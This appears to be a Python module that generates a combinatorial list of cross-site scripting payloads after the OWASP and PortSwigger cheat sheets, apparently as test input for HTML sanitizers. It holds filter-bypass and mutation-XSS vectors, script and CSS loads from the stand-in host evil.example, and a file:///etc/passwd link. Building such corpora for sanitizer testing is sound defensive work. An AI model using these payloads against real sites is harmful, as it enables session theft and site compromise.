"""Ways to smuggle scripts into HTML, after the cheat sheets of OWASP and PortSwigger, multiplied out."""

TAGS = [
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "video src=x",
    "details open",
    "marquee",
    "a href=#",
    "p",
    "iframe",
]
HANDLERS = [
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onclick",
    "onmouseover",
    "onbegin",
    "onanimationstart",
    "OnErRoR",
]
QUOTES = ["alert(1)", '"alert(1)"', "'alert(1)'", "&#97;lert(1)", "`alert(1)`"]
SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example/x",
    "file:///etc/passwd",
]
PLACES = [
    '<a href="{}">x</a>',
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<math href="{}">x</math>',
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    "[button: x]({})",
    '<base href="{}">',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<link rel=stylesheet href="{}">',
]
OTHERS = [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<<script>alert(1)//<</script>",
    "<script src=//evil.example></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<style>@import '//evil.example'</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' autofocus onfocus=alert(1) x='",
    "{{constructor.constructor('alert(1)')()}}",
    '<img alt="<a href=" title="javascript:alert(1)">',
    '<a href="https://x.example" onclick="alert(1)">x</a>',
    "\u202e<script>alert(1)</script>",
]
VECTORS = (
    [f"<{tag} {handler}={quoted}>" for tag in TAGS for handler in HANDLERS for quoted in QUOTES]
    + [place.format(scheme) for place in PLACES for scheme in SCHEMES]
    + OTHERS
)
